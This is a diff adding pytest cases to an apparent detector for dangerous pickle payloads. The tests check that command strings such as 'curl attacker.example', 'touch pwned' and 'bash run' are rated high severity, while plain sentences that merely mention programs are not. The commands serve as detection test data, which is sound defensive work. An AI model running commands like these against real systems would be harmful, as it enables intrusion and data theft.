@@ -172,3 +172,30 @@ def test_one_command_line_among_very_many_lists_is_found() -> None:
     honest = b"".join(called(listed(f"a{each}", "!")) for each in range(600))
     assert severity_of(b"\x80\x04" + honest + b"N.") is Severity.MEDIUM
     assert severity_of(b"\x80\x04" + honest + called(listed("a", "-c")) + b"N.") is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    ("callee", "argument"),
+    [
+        ("x.Foo", ["touch pwned"]),
+        ("x.ShellError", "touch pwned"),
+        ("x.ShellError", "curl attacker.example"),
+        ("x.ShellError", "python run.py"),
+        ("x.Words", ["bash run"]),
+    ],
+)
+def test_a_command_is_no_sentence(callee: str, argument: object) -> None:
+    assert worst(callee, argument) is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    ("callee", "argument"),
+    [
+        ("x.ShapeError", "python 3.8 is required"),
+        ("x.ShapeError", "node 3 was not found"),
+        ("x.ShapeError", "Touch the screen"),
+        ("x.Words", ["shape of a touch", "dash", "a node"]),
+    ],
+)
+def test_a_sentence_about_programs_is_one(callee: str, argument: object) -> None:
+    assert worst(callee, argument) < Severity.HIGH
